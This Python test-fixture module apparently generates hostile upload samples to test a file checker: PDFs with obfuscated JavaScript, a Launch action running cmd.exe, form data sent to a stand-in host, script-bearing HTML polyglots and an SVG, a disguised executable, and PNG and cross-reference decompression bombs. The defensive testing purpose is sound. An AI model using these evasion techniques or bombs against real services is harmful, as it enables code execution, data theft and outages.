"""Files for the upload tests, made here byte by byte: a clean PDF, hostile PDFs (each the
way an attacker would write it, not the way our checker looks for it), a decompression
bomb, an SVG, executables. Nothing is downloaded; every file is a few hundred bytes except
the bomb."""

from __future__ import annotations

import io
import struct
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile


def build_pdf(objects: list[bytes], *, header: bytes = b"%PDF-1.7\n", trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalogue."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode() + trailer
    out += f">>\nstartxref\n{xref}\n%%EOF\n".encode() + tail
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length " + str(len(data)).encode() + extra + b" >>\nstream\n" + data + b"\nendstream"


PAGE_TEXT = b"BT /F1 14 Tf 72 760 Td (Compte rendu de consultation) Tj ET"


def pdf_with(*, catalog: bytes = b"", page: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """One page with text; `catalog` and `page` add entries to those dictionaries;
    `extra_objects` are numbered from 6."""
    return build_pdf(
        header=b"%PDF-1.4\n",
        objects=[
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
            _stream(PAGE_TEXT),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            *extra_objects,
        ],
    )


CLEAN_PDF = pdf_with(
    # What ordinary files have: open at the first page, an outline, a link a reader clicks.
    catalog=b"/OpenAction [3 0 R /Fit] /PageMode /UseNone",
    page=b"/Annots [6 0 R]",
    extra_objects=(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://www.has-sante.fr/) >> >>",
    ),
)


def _object_stream_javascript() -> bytes:
    """JavaScript in the document's name tree, every object compressed in object streams:
    the bytes contain no readable "JavaScript"."""
    pdf = pikepdf.open(io.BytesIO(CLEAN_PDF))
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    pdf.Root.Names = pdf.make_indirect(
        pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script])))
    )
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    data = out.getvalue()
    assert b"JavaScript" not in data and b"/JS" not in data
    return data


def _encrypted() -> bytes:
    pdf = pikepdf.open(io.BytesIO(CLEAN_PDF))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return out.getvalue()


def object_stream_pdf(padding: int) -> bytes:
    """A harmless PDF whose objects sit in a compressed object stream that inflates to
    `padding` bytes more than it weighs (a zip bomb when `padding` is large)."""
    pdf = pikepdf.open(io.BytesIO(CLEAN_PDF))
    pdf.Root.Filler = pdf.make_indirect(pikepdf.Dictionary(Padding=pikepdf.String(b" " * padding)))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


HOSTILE_PDFS: dict[str, bytes] = {
    # /J#61vaScript is /JavaScript once the name is decoded, /J#53 is /JS.
    "escaped-names": pdf_with(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "object-stream-javascript": _object_stream_javascript(),
    "submit-form": pdf_with(
        page=b"/Annots [6 0 R]",
        extra_objects=(
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /Rect [72 700 300 720] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (https://collecte.example/formulaire) >> >> >>",
        ),
    ),
    "launch": pdf_with(
        page=b"/Annots [6 0 R]",
        extra_objects=(
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
            b"/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        ),
    ),
    "embedded-file": pdf_with(
        catalog=b"/Names << /EmbeddedFiles << /Names [(facture.exe) 6 0 R] >> >>",
        extra_objects=(
            b"<< /Type /Filespec /F (facture.exe) /EF << /F 7 0 R >> >>",
            _stream(b"MZ", b" /Type /EmbeddedFile"),
        ),
    ),
    "file-attachment-annotation": pdf_with(
        page=b"/Annots [6 0 R]",
        extra_objects=(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] /FS 7 0 R >>",
            b"<< /Type /Filespec /F (note.txt) /EF << /F 8 0 R >> >>",
            _stream(b"bonjour", b" /Type /EmbeddedFile"),
        ),
    ),
    "xfa-form": pdf_with(
        catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>",
        extra_objects=(_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>"),),
    ),
    "uri-on-open": pdf_with(catalog=b"/OpenAction << /S /URI /URI (https://pistage.example/ouvert) >>"),
    "page-automatic-action": pdf_with(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
    "go-to-remote": pdf_with(
        page=b"/Annots [6 0 R]",
        extra_objects=(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /GoToR /F (autre.pdf) /D [0 /Fit] >> >>",
        ),
    ),
    "import-data": pdf_with(
        page=b"/Annots [6 0 R]",
        extra_objects=(b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /ImportData /F (donnees.fdf) >> >>",),
    ),
    "rich-media": pdf_with(
        page=b"/Annots [6 0 R]",
        extra_objects=(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>",),
    ),
    "javascript-after-goto": pdf_with(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (app.alert(1)) >> >>"
    ),
    # HTML after the header: a browser opening the file as a page would run the script.
    "html-polyglot": pdf_with(extra_objects=(b"(<html><body><script>alert(document.cookie)</script></body></html>)",)),
    "html-after-eof": CLEAN_PDF + b"<HTML><SCRIPT>alert(1)</SCRIPT>",
    "truncated": CLEAN_PDF[: len(CLEAN_PDF) // 2],
    "no-cross-reference": (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    ),
    "password-protected": _encrypted(),
}


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A valid PNG of 900 million 1-bit pixels that weighs about 100 KB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    row = b"\x00" * (1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", idat)
        + chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00" + b"\x00" * 200
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script>%PDF-1.4</body></html>"


def hostile_files() -> dict[str, tuple[str, bytes]]:
    """Every hostile file, as (the name it is sent under, its bytes)."""
    files = {name: (f"{name}.pdf", data) for name, data in HOSTILE_PDFS.items()}
    files["decompression-bomb"] = ("photo.png", png_bomb())
    files["svg"] = ("schema.png", SVG)
    files["renamed-executable"] = ("compte-rendu.pdf", WINDOWS_EXE)
    files["html-page"] = ("page.pdf", HTML_PAGE)
    return files


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def xref_stream_bomb(entries: int) -> bytes:
    """A PDF 1.5 of a few hundred kilobytes whose compressed cross-reference stream
    declares `entries` objects: qpdf inflates and holds all of it when opening."""
    body = bytearray(b"%PDF-1.5\n")
    offsets = []
    for number, obj in enumerate((b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"), 1):
        offsets.append(len(body))
        body += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref_at = len(body)
    rows = b"\x00\x00\x00\x00" + b"".join(b"\x01" + o.to_bytes(2, "big") + b"\x00" for o in (*offsets, xref_at))
    compressor = zlib.compressobj(9)
    data = compressor.compress(rows) + compressor.compress(b"\x00" * (4 * entries)) + compressor.flush()
    body += (
        f"3 0 obj\n<< /Type /XRef /Size {entries + 4} /W [1 2 1] /Root 1 0 R /Filter /FlateDecode "
        f"/Length {len(data)} >>\nstream\n"
    ).encode()
    body += data + b"\nendstream\nendobj\n" + f"startxref\n{xref_at}\n%%EOF\n".encode()
    return bytes(body)
